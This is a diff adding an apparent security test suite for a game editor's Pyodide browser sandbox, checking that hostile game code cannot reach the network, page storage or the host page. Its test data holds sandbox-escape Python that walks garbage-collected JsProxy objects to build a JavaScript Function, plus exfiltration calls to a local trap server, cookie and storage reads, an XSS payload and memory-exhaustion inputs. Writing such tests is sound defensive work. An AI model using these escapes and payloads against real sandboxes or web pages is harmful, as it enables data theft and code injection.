@@ -1,0 +1,296 @@
+"""The editor's sandbox under attack: game files that try to reach the network, the page and the machine."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from browser_support import chromium
+from built_site import build_once
+from playwright.sync_api import Browser, Page, expect
+from static_site import StaticSite, serve_folder
+
+from numduel.workshop.template import write_template
+
+pytestmark = [pytest.mark.slow, pytest.mark.long]
+
+GAME = write_template("my_game")
+RESULT_MS = 150_000
+
+JAVASCRIPT = """
+def attempt(find):
+    try:
+        found = find()
+        found("http://127.0.0.1:{port}/stolen")
+    except BaseException:
+        pass
+
+def by_name(module, name):
+    return lambda: getattr(__import__(module, fromlist=["x"]), name)
+
+for name in ("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "open", "Worker"):
+    attempt(by_name("js", name))
+    attempt(by_name("pyodide_js", name))
+for module, name in (
+    ("pyodide.code", "run_js"), ("pyodide.http", "open_url"), ("pyodide.http", "pyfetch"),
+    ("micropip", "install"), ("urllib.request", "urlopen"), ("_pyodide_core", "run_js"),
+):
+    attempt(by_name(module, name))
+
+def unwrap():
+    import gc, sys
+    sys.modules.pop("js", None)
+    for thing in gc.get_objects():
+        if type(thing).__name__ == "JsProxy":
+            function = thing.constructor.constructor
+            code = "fetch('http://127.0.0.1:{port}/stolen'); postMessage('x'); indexedDB.open('x');"
+            code += "new WebSocket('ws://127.0.0.1:{port}/stolen'); import('http://127.0.0.1:{port}/stolen')"
+            try:
+                function(code)()
+            except BaseException:
+                pass
+try:
+    unwrap()
+except BaseException:
+    pass
+"""
+"""Ways from Python to the browser's functions."""
+
+
+class Trap:
+    """A server that counts requests."""
+
+    def __init__(self) -> None:
+        self.requested: list[str] = []
+        trap = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                trap.requested.append(self.path)
+                self.send_response(200)
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.end_headers()
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_port
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[StaticSite]:
+    folder: Path = build_once(tmp_path_factory)
+    with serve_folder(folder) as served:
+        yield served
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with chromium() as started:
+        yield started
+
+
+@pytest.fixture
+def trap() -> Iterator[Trap]:
+    made = Trap()
+    yield made
+    made.server.shutdown()
+    made.server.server_close()
+
+
+@pytest.fixture
+def page(browser: Browser, site: StaticSite) -> Iterator[Page]:
+    context = browser.new_context(service_workers="block")
+    opened = context.new_page()
+    opened.goto(site.url.replace("/play/", "/editor/"))
+    expect(opened.locator("html[data-ready]")).to_have_count(1)
+    yield opened
+    context.close()
+
+
+def type_file(page: Page, text: str) -> None:
+    """Put a file into the editor, as its draft."""
+    page.evaluate(
+        "text => localStorage.setItem('numduel.editor_draft', JSON.stringify(text))", text
+    )
+    page.goto(page.url.partition("#")[0])
+    expect(page.locator("html[data-ready]")).to_have_count(1)
+
+
+def run(page: Page, panel: str = "check") -> str:
+    """Press a button; return the text of its panel when the sandbox is done."""
+    page.click(f"#tab-{panel}")
+    expect(page.locator(".progress")).to_have_count(0, timeout=RESULT_MS)
+    return page.inner_text(f"#panel-{panel}")
+
+
+def check_still_usable(page: Page) -> None:
+    """Check that the page works after an attack."""
+    type_file(page, GAME)
+    assert "All laws hold." in run(page)
+
+
+def test_panels_answer_as_the_command_line_does(page: Page) -> None:
+    assert "440 positions of 8 variants" in run(page)
+    assert "take how many stones" in run(page, "play")
+    page.click("#panel-play [data-move='2']")
+    expect(page.locator("#panel-play .facts")).not_to_contain_text("12")
+    assert "loses in 6 turns" in run(page, "solve")
+    assert "Player 2 wins" in run(page, "report")
+
+
+def test_planted_fault_is_shown_with_its_law_and_line(page: Page) -> None:
+    type_file(page, GAME.replace("pile.stones -= number", "pile.stones -= number // 0"))
+    shown = run(page)
+    assert "no-errors" in shown
+    assert "ZeroDivisionError" in shown or "division" in shown
+    line = GAME[: GAME.index("pile.stones -= number")].count("\n") + 1
+    assert f"Line {line}" in shown
+    type_file(page, GAME + "\nclass (:\n")
+    assert f"line {GAME.count(chr(10)) + 2}" in run(page)
+
+
+def test_shared_link_runs_nothing_before_a_click_and_keeps_the_draft(
+    page: Page, trap: Trap
+) -> None:
+    evil = GAME + JAVASCRIPT.replace("{port}", str(trap.port))
+    type_file(page, evil)
+    page.click("#share")
+    link = page.input_value("#note input")
+    type_file(page, GAME + "# my draft\n")
+    page.goto("about:blank")
+    page.goto(link)
+    expect(page.locator("#shared")).to_be_visible()
+    page.wait_for_timeout(1000)
+    assert page.locator("iframe").count() == 0
+    assert "my draft" in page.evaluate("localStorage.getItem('numduel.editor_draft')")
+    page.click("#drop")
+    expect(page.locator("#shared")).to_be_hidden()
+    assert trap.requested == []
+
+
+def test_code_reaches_no_network(page: Page, trap: Trap) -> None:
+    type_file(page, GAME + JAVASCRIPT.replace("{port}", str(trap.port)))
+    run(page)
+    page.wait_for_timeout(500)
+    assert trap.requested == []
+    check_still_usable(page)
+
+
+def test_javascript_in_the_sandbox_reaches_nothing(
+    browser: Browser, site: StaticSite, trap: Trap
+) -> None:
+    """Run JavaScript in the sandbox's worker, as if the code had left Python."""
+    attacks = {
+        "fetch": "await fetch('URL')",
+        "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'URL', false); x.send()",
+        "importScripts": "importScripts('URL')",
+        "import": "await import('URL')",
+        "websocket": "await new Promise((yes, no) => { const s = new WebSocket('URL'.replace('http', 'ws'));"
+        " s.onopen = yes; s.onerror = no; })",
+        "eventsource": "await new Promise((yes, no) => { const s = new EventSource('URL'); s.onopen = yes; s.onerror = no; })",
+        "indexeddb": "await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
+        "storage": "localStorage.length",
+        "cookies": "document.cookie",
+        "caches": "await caches.open('x')",
+        "parent": "parent.document.title",
+        "eval": "eval('1')",
+    }
+    parts = ",".join(
+        f"{json.dumps(name)}: async () => {{ {code.replace('URL', f'http://127.0.0.1:{trap.port}/x')} }}"
+        for name, code in attacks.items()
+    )
+    script = f"""onmessage = async () => {{
+      const found = [];
+      for (const [name, attack] of Object.entries({{{parts}}}))
+        await attack().then(() => found.push(name), () => {{}});
+      postMessage(JSON.stringify(found));
+    }}"""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(site.url.replace("/play/", "/editor/"))
+    reached = page.evaluate(
+        """script => new Promise((resolve) => {
+          const frame = document.createElement("iframe");
+          frame.setAttribute("sandbox", "allow-scripts");
+          frame.src = "sandbox.html";
+          addEventListener("message", ({ source }) => {
+            const { port1, port2 } = new MessageChannel();
+            port1.onmessage = ({ data }) => resolve(JSON.parse(data));
+            source.postMessage({ script: new TextEncoder().encode(script).buffer }, "*", [port2]);
+          }, { once: true });
+          document.body.append(frame);
+        })""",
+        script,
+    )
+    assert reached == []
+    assert trap.requested == []
+    context.close()
+
+
+def test_sandbox_runs_nothing_in_a_frame_with_an_origin(browser: Browser, site: StaticSite) -> None:
+    page = browser.new_page()
+    page.goto(site.url.replace("/play/", "/editor/"))
+    answer = page.evaluate(
+        """() => new Promise((resolve) => {
+          const frame = document.createElement("iframe");
+          frame.src = "sandbox.html";
+          frame.onload = () => setTimeout(() => resolve("silent"), 500);
+          addEventListener("message", () => resolve("loaded"));
+          document.body.append(frame);
+        })"""
+    )
+    assert answer == "silent"
+    page.close()
+
+
+@pytest.mark.parametrize(
+    ("attack", "expected"),
+    [
+        ("while True: pass", "did not return within 10 s"),
+        ("def f(): f()\nf()", "recursion"),
+        ("x = bytearray(2_000_000_000)", "memory"),
+        ("x = []\nwhile True: x.append(bytearray(10_000_000))", "memory"),
+        ("x = []\nwhile True: x.append([0] * 100_000)", "memory"),
+        ("open('/x', 'wb').write(bytes(50_000_000))", "OSError"),
+        ("raise ValueError('<img src=x onerror=alert(1)>')", "<img src=x onerror=alert(1)>"),
+    ],
+)
+def test_limits_hold_and_the_page_stays_usable(page: Page, attack: str, expected: str) -> None:
+    type_file(page, f"{GAME}\n{attack}\n")
+    assert expected.lower() in run(page).lower()
+    assert page.locator("#panels img").count() == 0
+    check_still_usable(page)
+
+
+def test_loop_that_refuses_to_end_is_terminated(page: Page) -> None:
+    attack = "while True:\n    try:\n        while True: pass\n    except BaseException: pass\n"
+    type_file(page, f"{GAME}\n{attack}")
+    assert "Stopped after 15 s" in run(page)
+    check_still_usable(page)
+
+
+def test_endless_loop_in_a_method_is_a_broken_law(page: Page) -> None:
+    loop = "while pile.stones < 3: pass\n        pile.stones -= number"
+    type_file(page, GAME.replace("pile.stones -= number", loop))
+    shown = run(page)
+    assert "no-endless-loop" in shown
+    assert "in change, line" in shown
+    check_still_usable(page)
+
+
+def test_markup_in_titles_stays_text(page: Page) -> None:
+    markup = "<img src=x onerror=alert(1)>"
+    type_file(
+        page, GAME.replace('tells = "{player} took {move}"', f'tells = "{{player}} {markup}"')
+    )
+    run(page, "play")
+    page.click("#panel-play [data-move='1']")
+    expect(page.locator("#panel-play .said")).to_contain_text("<img")
+    assert page.locator("#panels img").count() == 0
